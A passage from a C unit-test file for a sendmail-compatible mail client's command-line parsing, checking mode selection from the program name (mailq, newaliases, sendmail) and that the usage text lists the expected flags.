		cli_fini(&o);
}

/* cli_name alone. */
static void
names(void)
{
	static const struct {
		const char *argv0;
		enum cli_mode mode;
	} t[] = {
	    {"mailq", CLI_LIST},
	    {"/usr/bin/mailq", CLI_LIST},
	    {"newaliases", CLI_NEWALIASES},
	    {"/usr/bin/newaliases", CLI_NEWALIASES},
	    {"sendmail", CLI_SEND},
	    {"/usr/lib/sendmail", CLI_SEND},
	    {"send-mail", CLI_SEND},
	    {"postie", CLI_SEND},
	    {"mailqq", CLI_SEND},
	    {"", CLI_SEND},
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct opts o;
		memset(&o, 0, sizeof(o));
		cli_name(&o, t[i].argv0);
		ok(o.mode == t[i].mode, "cli_name(\"%s\") = %d", t[i].argv0, (int)t[i].mode);
	}
	struct opts o;
	memset(&o, 0, sizeof(o));
	cli_name(&o, NULL);
	ok(o.mode == CLI_SEND, "cli_name(NULL) leaves the mode");
}

/* The usage text names the flags a reader looks for. */
static void
usage(void)
{
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);
	cli_usage(f);
	fclose(f);
	static const char *const want[] = {
	    "-t",           "-f ADDR", "-N never",       "-bs",         "-bv",    "--pretend",
	    "--serverinfo", "-X FILE", "--tls[=on|off]", "Exit status", "--check"};
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
		ok(strstr(text, want[i]) != NULL, "usage mentions %s", want[i]);
	free(text);
}

int
main(void)
{
	for (size_t i = 0; i < NROWS; i++)
		run_row(&rows[i]);
	long_options();
	empty_argv();
	argv_injection();
	names();
	usage();
	return tap_done();
}
